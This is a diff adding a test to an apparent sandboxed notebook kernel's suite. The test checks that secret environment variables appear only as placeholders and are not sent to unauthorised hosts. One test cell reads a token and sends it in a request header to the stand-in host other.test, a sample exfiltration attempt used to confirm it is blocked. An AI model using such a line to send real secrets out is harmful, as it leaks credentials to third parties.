@@ -89,3 +89,19 @@ def test_an_odd_spelling_is_told_before_anything_runs(kernel, words, told):
     assert reply["ename"] == "InvalidRequest"
     assert told in reply["evalue"]
     assert [kind for kind, _ in outputs] == ["error"]
+
+
+def test_a_cell_has_the_placeholder_of_a_secret_and_never_its_value(start_kernel):
+    env = {"TOKEN": "real-value-0123456789", "SANDBOX_KERNEL_SECRETS": "TOKEN@api.test"}
+    kernel = start_kernel(env=env)
+    shown = {kernel.text(cell) for cell in ("import os; print(os.environ['TOKEN'])", "%%sandbox bash\necho $TOKEN")}
+    (placeholder,) = shown
+    assert placeholder.startswith("sandbox-secret-")
+    reply, outputs = kernel.run(
+        "%%sandbox python --allow-net other.test\nimport os, urllib.request\n"
+        "asked = urllib.request.Request('http://other.test/', headers={'X': os.environ['TOKEN']})\n"
+        "try: urllib.request.urlopen(asked)\nexcept OSError: pass"
+    )
+    assert reply["status"] == "ok"
+    assert "secret_not_for_host" in json.dumps(outputs)
+    assert "real-value" not in json.dumps(outputs)
